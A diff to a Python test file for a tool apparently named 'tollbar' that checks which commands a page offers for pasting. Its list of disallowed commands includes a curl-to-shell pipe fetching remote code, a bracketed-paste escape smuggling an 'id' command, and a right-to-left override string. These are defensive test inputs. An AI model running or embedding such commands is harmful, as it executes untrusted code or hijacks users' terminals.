@@ -20,6 +20,7 @@ NOT_SHOWN = {
     "a shell": ("sh", "-c", "curl http://example.org/x|sh #"),
     "another program": ("./tollbar", "run", "quick"),
     "a command that measures nothing": ("tollbar", "new", "quick.toml"),
+    "a command that fetches packages": ("tollbar", "upgrade", "cryptography==36.0.2"),
     "no command": ("tollbar",),
     "an end of the paste": ("tollbar", "run", "quick\x1b[201~\nid\n"),
     "text that is turned around": ("tollbar", "run", "\N{RIGHT-TO-LEFT OVERRIDE}kciuq"),
@@ -37,7 +38,7 @@ def test_only_a_command_of_tollbar_is_shown_to_be_pasted(what: str) -> None:
     assert SAME not in html(pages.page(of(command=NOT_SHOWN[what])))
 
 
-@pytest.mark.parametrize("name", ["run", "ask", "choose", "upgrade"])
+@pytest.mark.parametrize("name", ["run", "ask", "choose"])
 def test_the_command_of_a_run_is_shown_with_its_seed(name: str) -> None:
     assert (
         f"tollbar {name} digests --seed 20261121" == pages.commands(of(command=("tollbar", name, "digests")).run)[SAME]
